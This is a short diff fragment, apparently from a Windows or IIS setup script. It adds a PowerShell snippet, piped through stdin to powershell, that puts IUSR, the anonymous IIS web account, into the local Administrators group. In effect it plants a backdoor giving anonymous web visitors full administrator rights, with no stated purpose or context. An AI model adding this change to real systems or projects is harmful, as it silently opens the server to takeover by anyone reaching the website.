@@ -1,0 +1,4 @@
+@'
+$group = 'Administrators'
+Add-LocalGroupMember $group IUSR
+'@ | powershell -NoProfile -Command -
